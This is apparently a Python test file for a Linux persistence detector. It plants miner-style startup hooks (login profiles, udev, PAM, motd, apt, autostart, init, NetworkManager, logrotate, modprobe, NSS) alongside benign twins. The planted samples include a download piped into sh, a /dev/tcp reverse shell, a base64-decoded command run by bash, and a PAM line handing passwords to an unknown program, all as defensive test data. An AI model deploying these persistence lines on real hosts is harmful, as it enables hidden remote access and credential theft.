"""What starts a miner apart from cron and systemd: logins, devices, package operations, networks, desktops, PAM."""

from __future__ import annotations

import os

from tests.lab.case import case
from tests.lab.room import Planted, Room

_DOWNLOAD = "(curl -fsSL http://203.0.113.9/i.sh || wget -qO- http://203.0.113.9/i.sh) | sh"

# The commands that Debian's and Ubuntu's skeleton gives every account, changed by its user so that it is no copy.
_BASHRC = r"""case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then
    debian_chroot=$(cat /etc/debian_chroot)
fi
PS1="\[\e]0;${debian_chroot:+($debian_chroot)}\u@\h: \w\a\]$PS1"
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
    alias grep='grep --color=auto'
fi
alias alert='notify-send --urgency=low "$(history|tail -n1|sed -e '\''s/^\s*[0-9]\+\s*//;s/[;&|]\s*alert$//'\'')"'
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
alias psg='ps aux | grep -v grep | grep'
alias speedtest='curl -s https://raw.githubusercontent.com/sivel/speedtest-cli/master/speedtest.py | python3 -'
PROMPT_COMMAND='history -a'
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
export PYENV_ROOT="$HOME/.pyenv"
command -v pyenv >/dev/null || export PATH="$PYENV_ROOT/bin:$PATH"
eval "$(pyenv init -)"
__conda_setup="$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
if [ $? -eq 0 ]; then
    eval "$__conda_setup"
elif [ -f "/opt/conda/etc/profile.d/conda.sh" ]; then
    . "/opt/conda/etc/profile.d/conda.sh"
fi
. "$HOME/.cargo/env"
export SDKMAN_DIR="$HOME/.sdkman"
[[ -s "$HOME/.sdkman/bin/sdkman-init.sh" ]] && source "$HOME/.sdkman/bin/sdkman-init.sh"
source ~/.oh-my-bash/oh-my-bash.sh
source <(kubectl completion bash)
eval "$(starship init bash)"
[ -f ~/.fzf.bash ] && source ~/.fzf.bash
if [ -z "$SSH_AUTH_SOCK" ]; then eval "$(ssh-agent -s)" > /dev/null; fi
"""
_PACKAGEKIT = """DPkg::Post-Invoke {
"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && \
/usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit \
--object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update \
> /dev/null; /bin/echo > /dev/null";
};
// rkhunter's, needrestart's and etckeeper's
DPkg { Post-Invoke {
  "if [ -x /usr/bin/rkhunter ] && grep -qiE '^APT_AUTOGEN=.?(true|yes)' /etc/default/rkhunter; then \
/usr/share/rkhunter/scripts/rkhupd.sh; fi";
  "test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke || true";
}; };
DPkg::Pre-Invoke:: "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi";
"""
_MOTD_NEWS = """#!/bin/sh
[ -r /etc/default/motd-news ] && . /etc/default/motd-news
[ "$ENABLED" = "1" ] || exit 0
[ -n "$URLS" ] || URLS="https://motd.ubuntu.com"
NEWS=$(mktemp) || exit 1
trap "rm -f $NEWS" HUP INT QUIT ILL TRAP KILL BUS TERM
if curl --connect-timeout "$WAIT" --max-time "$WAIT" -A "$USER_AGENT" -o- "$URLS" >"$NEWS" 2>/dev/null; then
    safe_print "$NEWS" 2>/dev/null | head -n 10 | tr -d '\\000-\\011\\013\\014\\016-\\037' > /var/cache/motd-news
fi
echo >> /var/cache/motd-news 2>/dev/null &
"""
_INIT = """#!/bin/sh
### BEGIN INIT INFO
# Provides:          {0}
# Default-Start:     2 3 4 5
### END INIT INFO
DAEMON={1}
[ -x "$DAEMON" ] || exit 0
do_start() {{
    start-stop-daemon --start --quiet --pidfile /run/{0}.pid --background --make-pidfile --exec $DAEMON -- --quiet
}}
case "$1" in
  start) do_start ;;
  stop) start-stop-daemon --stop --quiet --pidfile /run/{0}.pid ;;
esac
"""
_ENTRY = "[Desktop Entry]\nType=Application\nName={}\nExec={}\n"


def _script(room: Room, path: str, *commands: str) -> Planted:
    return {"path": room.write(path, "\n".join(["#!/bin/sh", *commands, ""]), 0o755)}


@case(5, startup_suspicious_command="path")
def profile_download(room: Room) -> Planted:
    """a script for every login that pipes a download into a shell."""
    return _script(room, "/etc/profile.d/locale-fix.sh", f"{_DOWNLOAD} >/dev/null 2>&1 &")


@profile_download.twin
def _(room: Room) -> Planted:
    """scripts for every login that set a proxy, a path and completions."""
    _script(room, "/etc/profile.d/snap.sh", 'snap_bin_path="/snap/bin"', 'export PATH="$PATH:${snap_bin_path}"')
    return _script(
        room,
        "/etc/profile.d/proxy.sh",
        "export https_proxy=http://proxy.example.org:3128",
        "TMPDIR=/tmp",
        '[ "$(id -u)" -ne 0 ] && umask 027',
        "if [ -r /usr/share/bash-completion/bash_completion ]; then . /usr/share/bash-completion/bash_completion; fi",
    )


@case(5, startup_suspicious_command="path")
def root_profile_runs_dot_folder(room: Room) -> Planted:
    """root's .profile that starts a program in a dot folder."""
    room.program("/root/.config/cron/perfcc")
    return {"path": room.write("/root/.profile", "/root/.config/cron/perfcc >/dev/null 2>&1\n")}


@root_profile_runs_dot_folder.twin
def _(room: Room) -> Planted:
    """a developer's .bashrc with the set-up lines of a dozen tools."""
    return {"path": room.write("/root/.bashrc", _BASHRC)}


@case(5, startup_suspicious_command="path")
def alias_hides_miner(room: Room) -> Planted:
    """an alias that takes a program out of what ps shows."""
    return {"path": room.write("/root/.bash_aliases", "alias ps='ps $@ | grep -v kdevtmpfsi'\n")}


@alias_hides_miner.twin
def _(room: Room) -> Planted:
    """aliases and functions that only change how tools look."""
    aliases = (
        "alias ps='ps auxf'\nalias top=htop\nalias ls='exa --git'\nssh() { TERM=xterm command ssh \"$@\"; }\nalias sudo='sudo '\n"
    )
    return {"path": room.write("/root/.zshrc", aliases)}


@case(5, startup_suspicious_command="path")
def prompt_command(room: Room) -> Planted:
    """a command of every prompt that starts a program in /dev/shm."""
    return {"path": room.write("/root/.bash_login", "export PROMPT_COMMAND='(/dev/shm/k >/dev/null 2>&1 &)'\n")}


@prompt_command.twin
def _(room: Room) -> Planted:
    """a command of every prompt that names the terminal's window."""
    line = 'PROMPT_COMMAND=\'printf "\\033]0;%s@%s:%s\\007" "${USER}" "${HOSTNAME%%.*}" "${PWD/#$HOME/\\~}"\'\n'
    return {"path": room.write("/root/.bash_profile", line)}


@case(5, startup_suspicious_command="path", startup_commands="path")
def udev_rule(room: Room) -> Planted:
    """a udev rule that starts a program in a dot folder for every network card."""
    rule = 'SUBSYSTEM=="net", ACTION=="add", \\\n  RUN+="/usr/share/.font/run"\n'
    return {"path": room.write("/etc/udev/rules.d/75-net-setup.rules", rule)}


@udev_rule.twin
def _(room: Room) -> Planted:
    """the udev rules of TLP, of a snap, of DisplayLink, and of a backup to a USB disk."""
    room.write(
        "/etc/udev/rules.d/85-tlp.rules", 'SUBSYSTEM=="power_supply", KERNEL!="hidpp_battery*", RUN+="/usr/sbin/tlp auto"\n'
    )
    room.write(
        "/etc/udev/rules.d/70-snap.firefox.rules",
        'TAG=="snap_firefox_firefox", RUN+="/usr/lib/snapd/snap-device-helper $env{ACTION} snap_firefox_firefox $devpath"\n',
    )
    room.write(
        "/etc/udev/rules.d/99-displaylink.rules", 'ACTION=="add", RUN+="/opt/displaylink/udev.sh $root $env{ID_REVISION}"\n'
    )
    room.program("/usr/local/bin/usb-backup")
    rule = 'ACTION=="add", KERNEL=="sd?1", PROGRAM="/bin/sh -c \'echo %k\'", RUN+="/usr/local/bin/usb-backup %k"\n'
    return {"path": room.write("/etc/udev/rules.d/99-usb-backup.rules", rule)}


@case(5, startup_unpackaged_program="path")
def udev_program_among_the_systems(room: Room) -> Planted:
    """a udev rule for a program that somebody put into /usr/lib."""
    room.program("/usr/lib/kswapd")
    return {"path": room.write("/etc/udev/rules.d/60-mem.rules", 'SUBSYSTEM=="block", RUN+="/usr/lib/kswapd"\n')}


@udev_program_among_the_systems.twin
def _(room: Room) -> Planted:
    """a rule of the site's own for a program of the system."""
    rule = 'SUBSYSTEM=="backlight", RUN+="/usr/bin/chgrp video /sys/class/backlight/%k/brightness"\n'
    return {"path": room.write("/etc/udev/rules.d/90-backlight.rules", rule)}


@case(5, pam_unpackaged_program="path")
def pam_exec_program(room: Room) -> Planted:
    """a PAM line that hands every password to a program of nobody's."""
    room.program("/usr/lib/pam-audit")
    line = "auth optional pam_exec.so quiet expose_authtok /usr/lib/pam-audit\n"
    return {"path": room.write("/etc/pam.d/lab-login", line)}


@pam_exec_program.twin
def _(room: Room) -> Planted:
    """a PAM service that runs a packaged program, and modules of packages."""
    lines = (
        "@include common-auth\nsession [success=1 default=ignore] pam_exec.so /usr/bin/logger opened\nauth required pam_unix.so\n"
    )
    return {"path": room.write("/etc/pam.d/lab-service", lines)}


@case(5, pam_unpackaged_program="path")
def pam_module(room: Room) -> Planted:
    """a PAM module that no package brought, among the others."""
    place = next(
        path for path in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64") if os.path.isdir(path)
    )
    return {"path": room.program(f"{place}/security/pam_unlx.so")}


@pam_module.twin
def _(room: Room) -> Planted:
    """a text that lies among the PAM modules."""
    return {"path": room.write("/usr/lib/x86_64-linux-gnu/security/README", "see pam(8)\n")}


@case(5, startup_suspicious_command="path")
def motd_script(room: Room) -> Planted:
    """a message of the day that decodes a command."""
    return _script(room, "/etc/update-motd.d/11-system-info", "echo Y3VybCAtZnNTTCBodHRw | base64 -d | bash")


@motd_script.twin
def _(room: Room) -> Planted:
    """Ubuntu's message of the day that fetches news."""
    return {"path": room.write("/etc/update-motd.d/50-motd-news", _MOTD_NEWS, 0o755)}


@case(5, startup_suspicious_command="path")
def apt_hook(room: Room) -> Planted:
    """an apt hook that starts a program in /var/tmp again after each installation."""
    return {"path": room.write("/etc/apt/apt.conf.d/98update", 'DPkg::Post-Invoke {"/var/tmp/.upd/run >/dev/null 2>&1 &";};\n')}


@apt_hook.twin
def _(room: Room) -> Planted:
    """the apt hooks of PackageKit, rkhunter, needrestart and etckeeper."""
    return {"path": room.write("/etc/apt/apt.conf.d/20packagekit-lab", _PACKAGEKIT)}


@case(5, startup_suspicious_command="path")
def autostart_through_a_shell(room: Room) -> Planted:
    """an autostart entry that waits in a shell before it starts a program in /tmp."""
    entry = _ENTRY.format("Tracker", "sh -c 'sleep 30; /tmp/.font/run'")
    return {"path": room.write("/etc/xdg/autostart/tracker.desktop", entry)}


@autostart_through_a_shell.twin
def _(room: Room) -> Planted:
    """autostart entries of a synchroniser, of a desktop's toolbox, and one that is switched off."""
    room.write(
        "/root/.config/autostart/toolbox.desktop", _ENTRY.format("Toolbox", "/root/.local/share/JetBrains/bin/toolbox --minimize")
    )
    room.write("/root/.config/autostart/old.desktop", _ENTRY.format("Old", "/tmp/.mount_old/AppRun") + "Hidden=true\n")
    entry = _ENTRY.format("Sync", 'sh -c "sleep 10 && /usr/bin/syncthing serve" %U')
    return {"path": room.write("/root/.config/autostart/syncthing.desktop", entry)}


@case(5, startup_suspicious_command="path")
def autostart_from_a_cache(room: Room) -> Planted:
    """a user's autostart entry of a program in the folder for caches."""
    room.append("/etc/passwd", "kim:x:1000:1000::/home/kim:/bin/bash")
    room.program("/home/kim/.cache/thumb/updater")
    entry = _ENTRY.format("Updater", "/home/kim/.cache/thumb/updater")
    return {"path": room.write("/home/kim/.config/autostart/updater.desktop", entry, owner=1000)}


@autostart_from_a_cache.twin
def _(room: Room) -> Planted:
    """a user's autostart entry of a tool that installs itself into a dot folder."""
    room.append("/etc/passwd", "lee:x:1001:1001::/home/lee:/bin/bash")
    room.program("/home/lee/.dropbox-dist/dropboxd")
    entry = _ENTRY.format("Dropbox", "/home/lee/.dropbox-dist/dropboxd")
    return {"path": room.write("/home/lee/.config/autostart/dropbox.desktop", entry, owner=1001)}


@case(5, startup_suspicious_command="path")
def init_script(room: Room) -> Planted:
    """an init script, linked into the runlevels, of a program in a dot folder."""
    path = room.write("/etc/init.d/ksmd", _INIT.format("ksmd", "/usr/bin/.kmod/ksmd"), 0o755)
    room.link("../init.d/ksmd", "/etc/rc3.d/S99ksmd")
    return {"path": path}


@init_script.twin
def _(room: Room) -> Planted:
    """the init script of a vendor's agent in /opt."""
    path = room.write("/etc/init.d/agentd", _INIT.format("agentd", "/opt/agent/bin/agentd"), 0o755)
    room.link("../init.d/agentd", "/etc/rc3.d/S20agentd")
    return {"path": path}


@case(5, startup_suspicious_command="path")
def dispatcher_script(room: Room) -> Planted:
    """a NetworkManager script that opens a shell to another host whenever the network comes up."""
    return _script(room, "/etc/NetworkManager/dispatcher.d/90-dns", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &")


@dispatcher_script.twin
def _(room: Room) -> Planted:
    """a NetworkManager script that adds a route and tells a local service."""
    commands = (
        '[ "$2" = up ] && ip route replace 192.0.2.0/24 via 198.51.100.1 dev "$1"',
        "curl -s http://localhost:8080/reload &",
    )
    return _script(room, "/etc/NetworkManager/dispatcher.d/90-route", *commands)


@case(5, startup_suspicious_command="path")
def logrotate_script(room: Room) -> Planted:
    """a log rotation that starts a program in /dev/shm."""
    text = "/var/log/lab.log {\n  daily\n  postrotate\n    /dev/shm/.x/run &\n  endscript\n}\n"
    return {"path": room.write("/etc/logrotate.d/lab", text)}


@logrotate_script.twin
def _(room: Room) -> Planted:
    """a log rotation that tells the web server."""
    text = "/var/log/web/*.log {\n  postrotate\n    [ -s /run/nginx.pid ] && kill -USR1 `cat /run/nginx.pid`\n  endscript\n}\n"
    return {"path": room.write("/etc/logrotate.d/web", text)}


@case(5, startup_suspicious_command="path")
def modprobe_install(room: Room) -> Planted:
    """a module whose loading starts a program in /tmp."""
    return {
        "path": room.write(
            "/etc/modprobe.d/net.conf", "install br_netfilter /tmp/.n; /sbin/modprobe --ignore-install br_netfilter\n"
        )
    }


@modprobe_install.twin
def _(room: Room) -> Planted:
    """modules switched off as hardening guides have it, and one loaded with another."""
    text = (
        "install dccp /bin/true\ninstall cramfs /bin/false\ninstall snd-pcm /sbin/modprobe -i snd-pcm && /sbin/modprobe snd-seq\n"
    )
    return {"path": room.write("/etc/modprobe.d/cis.conf", text)}


@case(10, startup_of_running_program="pid")
def guarded_by_a_profile(room: Room) -> Planted:
    """a running program that every login starts again."""
    room.write("/etc/profile.d/upd.sh", "nohup /opt/run/worker >/dev/null 2>&1 &\n")
    return {"pid": room.run("/opt/run/worker")}


@guarded_by_a_profile.twin
def _(room: Room) -> Planted:
    """an agent in /opt that a desktop login starts."""
    room.write("/etc/xdg/autostart/agent.desktop", _ENTRY.format("Agent", "/opt/agent/tray --hidden"))
    return {"pid": room.run("/opt/agent/tray", "--hidden")}


@case(5, name_service_unpackaged_library="program_path")
def name_service(room: Room) -> Planted:
    """a library of nobody's that every look-up of an account loads."""
    library = room.program("/usr/lib/libnss_cachesync.so.2", mode=0o644)
    room.append("/etc/nsswitch.conf", "passwd: files cachesync")
    return {"program_path": library, "path": "/etc/nsswitch.conf"}


@name_service.twin
def _(room: Room) -> Planted:
    """a packaged library, and a service whose library is not installed."""
    library = room.program("/usr/lib/libnss_labsss.so.2", mode=0o644)
    room.package("libnss-labsss", library)
    room.append("/etc/nsswitch.conf", "group: files labsss\nhosts: files labgone dns")
    return {"program_path": library}


@case(5, stray_script_among_packaged="path")
def early_boot_script(room: Room) -> Planted:
    """a module of dracut's, among the packaged ones, that nobody packaged."""
    text = '#!/bin/bash\ncheck() { return 0; }\ninstall() { inst_hook pre-pivot 50 "$moddir/sync.sh"; }\n'
    return {"path": room.write("/usr/lib/dracut/modules.d/98sync/module-setup.sh", text, 0o755)}


@early_boot_script.twin
def _(room: Room) -> Planted:
    """an administrator's hook where administrators put theirs, and a packaged module."""
    text = "#!/bin/bash\ncheck() { return 0; }\n"
    packaged = room.write("/usr/lib/dracut/modules.d/98raid/module-setup.sh", text, 0o755)
    room.package("dracut-labraid", packaged)
    hook = '#!/bin/sh\n[ "$1" = prereqs ] && exit 0\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /sbin/mdadm\n'
    return {"path": (packaged, room.write("/etc/initramfs-tools/hooks/site", hook, 0o755))}
